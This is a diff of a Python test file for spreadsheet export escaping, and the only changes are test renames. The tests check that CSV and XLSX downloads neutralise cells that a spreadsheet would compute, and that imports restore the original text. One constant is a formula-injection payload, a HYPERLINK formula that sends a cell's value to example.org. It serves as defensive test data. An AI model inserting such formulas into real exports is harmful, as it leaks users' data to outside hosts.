@@ -23,12 +23,12 @@ pytestmark = pytest.mark.usefixtures("sourced")
 
 
 @given(st.text("'=+-@\t\r Aé1", max_size=6))
-def test_19_the_apostrophe_comes_off_again(text: str) -> None:
+def test_the_apostrophe_comes_off_again(text: str) -> None:
     assert unescaped(escaped(text)) == text
     assert escaped(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
 
 
-def test_19_the_database_puts_the_apostrophe_where_the_importer_takes_it_off() -> None:
+def test_the_database_puts_the_apostrophe_where_the_importer_takes_it_off() -> None:
     starts = ("", "'", "''", " ", "A", "A'")
     texts = [
         f"{start}{sign}1" for start in starts for sign in ("=", "+", "-", "@", "\t", "\r", "é")
@@ -52,7 +52,7 @@ def formulas(command: Way) -> Batch:
 FORMULA = '=HYPERLINK("http://example.org/?x="&A2,"open")'
 
 
-def test_19_text_that_a_spreadsheet_would_compute_has_an_apostrophe_in_csv(
+def test_text_that_a_spreadsheet_would_compute_has_an_apostrophe_in_csv(
     client: Client, formulas: Batch
 ) -> None:
     first, second = rows(client, "/tables/entries.csv?date_from=2010-03-15&date_to=2010-03-15")
@@ -69,7 +69,7 @@ def test_19_text_that_a_spreadsheet_would_compute_has_an_apostrophe_in_csv(
     assert any(row["amount_usd"] == "-6750000.00" for row in negative)
 
 
-def test_19_the_same_text_is_text_in_a_workbook_and_amounts_are_numbers(
+def test_the_same_text_is_text_in_a_workbook_and_amounts_are_numbers(
     client: Client, formulas: Batch
 ) -> None:
     address = "/tables/entries.xlsx?date_from=2010-03-15&date_to=2010-03-15"
@@ -88,7 +88,7 @@ def test_19_the_same_text_is_text_in_a_workbook_and_amounts_are_numbers(
 
 
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
-def test_19_importing_a_download_gives_the_original_back(
+def test_importing_a_download_gives_the_original_back(
     client: Client, command: Way, formulas: Batch, kind: str
 ) -> None:
     version = Posting.objects.get(batch=formulas).version
